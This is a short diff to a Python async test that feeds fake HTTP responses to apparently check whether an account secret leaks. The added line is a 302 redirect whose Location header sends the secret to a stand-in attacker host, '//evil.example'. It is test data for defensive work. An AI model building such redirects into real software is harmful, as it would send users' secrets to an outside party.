@@ -212,6 +212,7 @@ async def unsaid(world: World) -> None:
         ((b"200 OK", (), form()), (b"200 OK", (), form())),
         ((b"200 OK", (), form()), (b"500 Oops", (), ACCOUNT_SECRET.encode())),
         ((b"200 OK", (), form()), (b"302 Found", (b"Location: /?" + ACCOUNT_SECRET.encode(),), b"")),
+        ((b"200 OK", (), form()), (b"302 Found", (b"Location: //evil.example/?" + ACCOUNT_SECRET.encode(),), b"")),
     ):
         cookie = await somebody(world)
         with Formed(world, page, taken):
